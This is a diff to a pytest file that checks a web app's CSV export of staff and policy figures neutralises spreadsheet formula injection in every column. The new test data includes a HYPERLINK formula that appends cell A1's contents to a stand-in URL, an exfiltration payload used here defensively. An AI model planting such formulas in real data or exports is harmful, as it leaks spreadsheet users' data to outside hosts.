@@ -31,7 +31,7 @@ def figure(response, audience: str):
 
 def csv_rows(response) -> list[list[str]]:
     assert response["Content-Type"].startswith("text/csv")
-    return list(csv.reader(io.StringIO(response.content.decode())))
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
 
 
 @pytest.fixture
@@ -155,6 +155,15 @@ def test_it_keeps_a_formula_typed_as_a_name_as_text_in_the_csv(personas, client_
     make_member(personas.school, Role.STAFF, "eve@oakfield.test", '=HYPERLINK("http://x")')
     rows = csv_rows(client_for(personas.head).get(url("figures_csv", personas)))
     assert rows[1][-1].startswith("'=HYPERLINK")
+
+
+def test_it_keeps_a_formula_in_any_column_of_the_csv_as_text(personas, client_for, publish):
+    # Not only the names: a policy title or version number is someone's typing too.
+    publish([Audience.STAFF], title='=HYPERLINK("http://x?"&A1, "Open")', number="-1+2")
+    rows = csv_rows(client_for(personas.head).get(url("figures_csv", personas)))
+    assert rows[1][:3] == ['\'=HYPERLINK("http://x?"&A1, "Open")', "'-1+2", "Staff"]
+    # The counts stay numbers a spreadsheet can add up.
+    assert rows[1][3:6] == ["0", "6", "0"]
 
 
 def _count(client, path: str) -> int:
